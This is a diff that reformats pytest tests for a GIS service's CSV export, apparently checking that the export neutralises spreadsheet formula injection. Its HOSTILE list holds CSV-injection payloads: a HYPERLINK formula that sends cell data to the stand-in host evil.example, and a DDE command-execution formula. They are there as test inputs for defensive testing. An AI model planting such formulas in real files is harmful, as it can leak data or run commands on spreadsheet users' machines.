@@ -15,18 +15,28 @@ import requests
 import shapely
 import shapely.geometry
 import yaml
+from conftest import ROOT, run_cli, running_server
+from serve_support import PUBLIC, RESTRICTED, bearer, filled  # noqa: F401
 from sqlalchemy import text
 
-from conftest import ROOT, run_cli, running_server
 from gis.serve.csv_formatter import CSVFormatter
-from serve_support import PUBLIC, RESTRICTED, bearer, filled  # noqa: F401
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP CSV injection: what a spreadsheet may evaluate
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+1", "-2", "@SUM(A1:A9)",
-           "=cmd|' /C calc'!A0", "\tTab ở đầu", "\rCR ở đầu", "-2+3"]
-ID_FIELDS = {name: res["providers"][0]["id_field"]
-             for name, res in yaml.safe_load((ROOT / "pygeoapi-config.yml").read_text(encoding="utf-8"))
-             ["resources"].items() if res.get("type") == "collection"}
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    "\tTab ở đầu",
+    "\rCR ở đầu",
+    "-2+3",
+]
+ID_FIELDS = {
+    name: res["providers"][0]["id_field"]
+    for name, res in yaml.safe_load((ROOT / "pygeoapi-config.yml").read_text(encoding="utf-8"))["resources"].items()
+    if res.get("type") == "collection"
+}
 
 HOSTILE_SQL = """
 INSERT INTO events.facilities (facility_id, kind, name, geom, area_code, commune_code, batch_id, row_hash)
@@ -53,8 +63,10 @@ def add_hostile_rows(engine) -> None:
     with engine.begin() as conn:
         conn.execute(text(HOSTILE_SQL), {"names": HOSTILE})
         first = conn.execute(text("SELECT code FROM admin.area ORDER BY code LIMIT :n"), {"n": len(HOSTILE)})
-        conn.execute(text("UPDATE admin.area SET name = :n WHERE code = :c"),
-                     [{"c": code, "n": name} for code, name in zip(first.scalars(), HOSTILE)])
+        conn.execute(
+            text("UPDATE admin.area SET name = :n WHERE code = :c"),
+            [{"c": code, "n": name} for code, name in zip(first.scalars(), HOSTILE)],
+        )
 
 
 @pytest.fixture(scope="module")
@@ -92,10 +104,12 @@ def assert_cell(cell: str, value) -> None:
 
 
 def fetch(base: str, cid: str, headers: dict, **params) -> tuple[dict, requests.Response]:
-    as_json = requests.get(f"{base}/collections/{cid}/items", params={**params, "f": "json"}, headers=headers,
-                           timeout=120)
-    as_csv = requests.get(f"{base}/collections/{cid}/items", params={**params, "f": "csv"}, headers=headers,
-                          timeout=120)
+    as_json = requests.get(
+        f"{base}/collections/{cid}/items", params={**params, "f": "json"}, headers=headers, timeout=120
+    )
+    as_csv = requests.get(
+        f"{base}/collections/{cid}/items", params={**params, "f": "csv"}, headers=headers, timeout=120
+    )
     assert as_json.status_code == 200, as_json.text[:300]
     assert as_csv.status_code == 200, (cid, params, as_csv.status_code, as_csv.text[:300])
     return as_json.json(), as_csv
@@ -132,8 +146,7 @@ def test_csv_is_the_json_page_spreadsheet_safe(base, analyst, cid, order):
             assert shapely.from_wkt(cells["wkt"]).equals_exact(shapely.geometry.shape(geometry), 1e-9)
 
 
-@pytest.mark.parametrize("cid", ["facilities-public", "quarantine-facilities", "cases", "ingest-rejects",
-                                 "indicators"])
+@pytest.mark.parametrize("cid", ["facilities-public", "quarantine-facilities", "cases", "ingest-rejects", "indicators"])
 def test_first_feature_without_geometry_is_a_row_not_a_500(base, analyst, cid):
     headers = bearer(analyst) if cid in RESTRICTED else {}
     document, resp = fetch(base, cid, headers, limit=20, sortby=ID_FIELDS[cid])
@@ -143,9 +156,17 @@ def test_first_feature_without_geometry_is_a_row_not_a_500(base, analyst, cid):
     assert [v for c, v in zip(header, first) if c in ("x", "y", "wkt")] in (["", ""], [""])
 
 
-@pytest.mark.parametrize("cid, column", [("facilities-public", "name"), ("quarantine-facilities", "name"),
-                                         ("cases", "cluster_id"), ("ingest-rejects", "message"),
-                                         ("areas", "name"), ("zones", "name")])
+@pytest.mark.parametrize(
+    "cid, column",
+    [
+        ("facilities-public", "name"),
+        ("quarantine-facilities", "name"),
+        ("cases", "cluster_id"),
+        ("ingest-rejects", "message"),
+        ("areas", "name"),
+        ("zones", "name"),
+    ],
+)
 def test_hostile_text_is_prefixed_and_kept_literally(base, analyst, cid, column):
     headers = bearer(analyst) if cid in RESTRICTED else {}
     _, resp = fetch(base, cid, headers, limit=200, sortby=ID_FIELDS[cid])
@@ -174,9 +195,11 @@ def test_skip_geometry_and_empty_pages(base):
 
 # ---- the formatter on its own: pages pygeoapi could hand it ----
 
+
 def write(features: list, geom: bool = True, id_field: str = "code") -> list[list[str]]:
     out = CSVFormatter({"name": "CSV", "geom": geom}).write(
-        options={"provider_def": {"id_field": id_field}}, data={"type": "FeatureCollection", "features": features})
+        options={"provider_def": {"id_field": id_field}}, data={"type": "FeatureCollection", "features": features}
+    )
     return parse(out)
 
 
@@ -189,9 +212,23 @@ SQUARE = shapely.geometry.mapping(shapely.box(106, 10, 107, 11))
 
 
 def test_formatter_keeps_types_and_quotes_formulas():
-    rows = write([feature("=A1", None, n=-2, x=Decimal("-0.5"), ok=True, day=dt.date(2021, 10, 20),
-                          at=dt.datetime(2021, 10, 20, 9, 30, tzinfo=dt.UTC), reasons=["a", "=b"],
-                          record={"k": "@v"}, text="-2", none=None)])
+    rows = write(
+        [
+            feature(
+                "=A1",
+                None,
+                n=-2,
+                x=Decimal("-0.5"),
+                ok=True,
+                day=dt.date(2021, 10, 20),
+                at=dt.datetime(2021, 10, 20, 9, 30, tzinfo=dt.UTC),
+                reasons=["a", "=b"],
+                record={"k": "@v"},
+                text="-2",
+                none=None,
+            )
+        ]
+    )
     assert rows[0] == ["code", "x", "y", "n", "ok", "day", "at", "reasons", "record", "text", "none"]
     row = dict(zip(rows[0], rows[1]))
     assert row["code"] == "'=A1" and row["n"] == "-2" and row["ok"] == "true" and row["text"] == "'-2"
@@ -200,9 +237,17 @@ def test_formatter_keeps_types_and_quotes_formulas():
     assert row["x"] == "" and row["none"] == ""  # a property named like a geometry column gives way
 
 
-@pytest.mark.parametrize("geometries, columns", [
-    ([None, None], ["x", "y"]), ([None, POINT], ["x", "y"]), ([POINT, None], ["x", "y"]),
-    ([None, SQUARE], ["wkt"]), ([POINT, SQUARE], ["wkt"]), ([SQUARE, None], ["wkt"])])
+@pytest.mark.parametrize(
+    "geometries, columns",
+    [
+        ([None, None], ["x", "y"]),
+        ([None, POINT], ["x", "y"]),
+        ([POINT, None], ["x", "y"]),
+        ([None, SQUARE], ["wkt"]),
+        ([POINT, SQUARE], ["wkt"]),
+        ([SQUARE, None], ["wkt"]),
+    ],
+)
 def test_formatter_geometry_columns_follow_the_whole_page(geometries, columns):
     rows = write([feature(str(i), g, name=f"n{i}") for i, g in enumerate(geometries)])
     header = rows[0]
